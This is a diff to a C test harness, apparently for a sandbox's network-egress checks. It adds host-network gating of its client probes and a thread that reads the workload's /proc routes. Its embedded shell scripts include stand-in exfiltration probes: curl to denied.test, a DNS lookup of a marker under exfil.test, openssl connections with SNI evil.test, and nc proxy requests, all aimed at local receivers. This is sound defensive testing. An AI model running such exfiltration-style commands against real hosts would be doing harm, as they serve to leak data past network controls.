@@ -40,6 +40,10 @@
 
 #include <arpa/inet.h>
 #include <cjson/cJSON.h>
+#include <dirent.h>
+#include <fcntl.h>
+#include <pthread.h>
+#include <stdatomic.h>
 #include <netinet/in.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -62,21 +66,28 @@ static const struct case_arm arms[] = {
     {.name = NULL},
 };
 
-/* $1 the marker. Every client gives up quickly; what counts is what the
- * receivers saw, never what the clients say. */
+/* $1 the marker; $2 "host" when the arm has the host's network. Every
+ * client gives up quickly; what counts is what the receivers saw, never
+ * what the clients say. With the host's network only loopback literals
+ * are used: a name would be looked up by the host's resolver, a query
+ * that leaves the machine (the network rule: a host-net client only ever
+ * targets loopback), and the documentation addresses are for the
+ * sandbox's own namespace only. */
 #define CLIENTS                                                                                    \
 	"m=\"$1\"\n"                                                                               \
+	"if [ \"$2\" != host ]; then\n"                                                            \
 	"curl -s -m 5 http://allowed.test:18961/control-proxy >/dev/null\n"                        \
 	"curl -s -m 5 --noproxy '*' http://allowed.test:18961/control-transparent >/dev/null\n"    \
 	"curl -s -m 3 http://denied.test:18962/$m >/dev/null\n"                                    \
-	"curl -s -m 3 --noproxy '*' http://127.0.0.1:18962/$m >/dev/null\n"                        \
-	"curl -s -m 3 --noproxy '*' 'http://[::1]:18962/'$m >/dev/null\n"                          \
 	"getent hosts $m.exfil.test >/dev/null\n"                                                  \
 	"t='timeout 5 openssl s_client -connect tls.test:18964'\n"                                 \
 	"$t -proxy 127.0.0.1:3128 -servername tls.test </dev/null >/dev/null 2>&1\n"               \
 	"$t -proxy 127.0.0.1:3128 -noservername </dev/null >/dev/null 2>&1\n"                      \
 	"$t -proxy 127.0.0.1:3128 -servername evil.test </dev/null >/dev/null 2>&1\n"              \
 	"$t -noservername </dev/null >/dev/null 2>&1\n"                                            \
+	"fi\n"                                                                                     \
+	"curl -s -m 3 --noproxy '*' http://127.0.0.1:18962/$m >/dev/null\n"                        \
+	"curl -s -m 3 --noproxy '*' 'http://[::1]:18962/'$m >/dev/null\n"                          \
 	"python3 - \"$m\" <<'PY'\n"                                                                \
 	"import socket, struct, sys\n"                                                             \
 	"m = sys.argv[1]\n"                                                                        \
@@ -111,16 +122,18 @@ static const struct case_arm arms[] = {
 /* weakened:dns-open: the open stub's upstream is the exfil.test receiver. */
 static const char *const dns_open_env[] = {"PADDOCK_DNS_UPSTREAM=127.0.0.1:18953", NULL};
 
-/* The same clients for the busybox-only Docker image: wget honours
+/* The same clients for the busybox-only Docker image ($2 as above): wget honours
  * http_proxy (-Y off ignores it; busybox 1.35's -T crashes, so timeout(1)
  * bounds each), nc sends the mismatched proxy-form request, nslookup asks
  * the DNS receiver's address and port directly. Each reaches its receiver
  * when run on the host (checked by hand against these receivers). */
 #define BUSYBOX_CLIENTS                                                                           \
 	"m=\"$1\"; export http_proxy=http://127.0.0.1:3128; w='timeout 5 wget -q -O /dev/null'\n" \
+	"if [ \"$2\" != host ]; then\n"                                                           \
 	"$w http://allowed.test:18961/control-proxy\n"                                            \
 	"$w -Y off http://allowed.test:18961/control-transparent\n"                               \
 	"$w http://denied.test:18962/$m\n"                                                        \
+	"fi\n"                                                                                    \
 	"$w -Y off http://127.0.0.1:18962/$m\n"                                                   \
 	"$w -Y off \"http://[::1]:18962/$m\"\n"                                                   \
 	"timeout 5 nslookup $m.exfil.test 127.0.0.1:18953 >/dev/null 2>&1\n"                      \
@@ -129,10 +142,125 @@ static const char *const dns_open_env[] = {"PADDOCK_DNS_UPSTREAM=127.0.0.1:18953
 	"denied.test:18962\\r\\n\\r\\n' \"$m\" | timeout 5 nc 127.0.0.1 3128 >/dev/null 2>&1\n"   \
 	"exit 0\n"
 
+/* The workload's routes, read from outside while it runs: a thread of the
+ * harness finds a process of the workload (its command line holds the
+ * marker; paddock's own processes and the docker client, which hold it
+ * too, are skipped) and
+ * reads /proc/PID/net/route and ipv6_route, which show that process's
+ * network namespace. Any interface but lo in them is a way off the
+ * sandbox. */
+struct route_watch {
+	pthread_t thread;
+	atomic_bool stop;
+	const char *marker;
+	bool found;
+	int pid;
+	size_t n_routes;
+	char off[160]; /* the interfaces other than lo, space-separated */
+};
+
+static void note_iface(struct route_watch *w, const char *ifc)
+{
+	char word[40];
+
+	if (!*ifc || strcmp(ifc, "lo") == 0)
+		return;
+	snprintf(word, sizeof(word), " %s ", ifc);
+	if (!strstr(w->off, word + 1) && strlen(w->off) + strlen(word) < sizeof(w->off))
+		strcat(w->off, word + 1);
+}
+
+/* The last whitespace-separated word of each line of path (header skipped
+ * when header): the interface, in both files' layouts (route has it
+ * first). */
+static void read_routes(struct route_watch *w, const char *path, bool first_word)
+{
+	FILE *f = fopen(path, "re");
+	char line[512];
+	bool head = first_word; /* /proc/net/route has a header line */
+
+	if (!f)
+		return;
+	while (fgets(line, sizeof(line), f)) {
+		char ifc[32] = "", *last;
+
+		if (head) {
+			head = false;
+			continue;
+		}
+		line[strcspn(line, "\n")] = '\0';
+		if (first_word) {
+			if (sscanf(line, "%31s", ifc) != 1)
+				continue;
+		} else {
+			last = strrchr(line, ' ');
+			snprintf(ifc, sizeof(ifc), "%s", last ? last + 1 : line);
+		}
+		w->n_routes++;
+		note_iface(w, ifc);
+	}
+	fclose(f);
+}
+
+static bool is_workload(int pid, const char *marker)
+{
+	char path[64], buf[4096], comm[32] = "";
+	ssize_t n;
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
+	/* Not paddock's own processes nor the docker client, which hold the
+	 * marker in their arguments but run in the host's namespace. */
+	if (read_file(path, comm, sizeof(comm)) < 0 || !strncmp(comm, "paddock", 7) ||
+	    !strncmp(comm, "docker", 6))
+		return false;
+	snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		return false;
+	n = read(fd, buf, sizeof(buf));
+	close(fd);
+	return n > 0 && memmem(buf, (size_t)n, marker, strlen(marker));
+}
+
+static void *watch_routes(void *arg)
+{
+	struct route_watch *w = arg;
+
+	while (!atomic_load(&w->stop) && !w->found) {
+		DIR *d = opendir("/proc");
+		struct dirent *e;
+
+		while (d && !w->found && (e = readdir(d))) {
+			int pid = atoi(e->d_name);
+			char path[64];
+
+			if (pid <= 0 || !is_workload(pid, w->marker))
+				continue;
+			snprintf(path, sizeof(path), "/proc/%d/net/route", pid);
+			read_routes(w, path, true);
+			snprintf(path, sizeof(path), "/proc/%d/net/ipv6_route", pid);
+			read_routes(w, path, false);
+			/* Still the workload's after the reads (not a pid reused
+			 * meanwhile): then they were its namespace's. */
+			w->found = is_workload(pid, w->marker);
+			w->pid = pid;
+			if (!w->found)
+				w->n_routes = 0, w->off[0] = '\0';
+		}
+		if (d)
+			closedir(d);
+		if (!w->found)
+			sleep_ms(10);
+	}
+	return NULL;
+}
+
 struct hb09 {
 	struct counter_rx *ok, *denied4, *denied6, *dns, *tls, *udp;
 	char marker[64];
 	struct egress_obs o;
+	struct route_watch rw;
 };
 
 /* The harness's own request or datagram to a receiver: it must count it. */
@@ -274,17 +402,37 @@ static void run(struct case_run *cr)
 
 	snprintf(rec, sizeof(rec), "%s/record.json", cr->records);
 	before = prove(h, 1);
+	h->rw.marker = h->marker;
+	if (pthread_create(&h->rw.thread, NULL, watch_routes, &h->rw) != 0)
+		h->rw.marker = NULL; /* no watcher: the routes stay unread */
 	case_argv_arm(
 	    cr, &a,
 	    &(struct arm_start){.ws = cr->fx.dir,
 				.record = rec,
 				.env = strcmp(r->knob, "dns-open") == 0 ? dns_open_env : NULL});
+	/* The host's network: loopback literals only (CLIENTS). */
 	argv_words(&a, "sh", "-c", r->kind == ARM_DOCKER ? BUSYBOX_CLIENTS : CLIENTS, "sh",
-		   h->marker, NULL);
+		   h->marker, strstr(r->knob, "host-net") ? "host" : "own", NULL);
 	if (case_run_vec(cr, &a, cr->log, 120000, &status) < 0) {
 		result_not_executed(r, "could not start the workload");
 		return;
 	}
+	if (h->rw.marker) {
+		atomic_store(&h->rw.stop, true);
+		pthread_join(h->rw.thread, NULL);
+	}
+
+	if (h->rw.off[0] && h->rw.off[strlen(h->rw.off) - 1] == ' ')
+		h->rw.off[strlen(h->rw.off) - 1] = '\0';
+	h->o.routes_read = h->rw.found;
+	h->o.routes_off = h->rw.found && h->rw.off[0];
+	if (h->rw.found)
+		result_evidence(r, "routes",
+				"read from outside in /proc/%d/net/{route,ipv6_route} while the "
+				"workload ran: %zu route(s), interfaces other than lo: %s",
+				h->rw.pid, h->rw.n_routes, h->rw.off[0] ? h->rw.off : "none");
+	else
+		result_evidence(r, "routes", "no process of the workload was found to read them");
 	h->o.receivers_proven = before && prove(h, 2);
 	if (r->kind != ARM_DOCKER)
 		case_record(cr, rec, NULL);
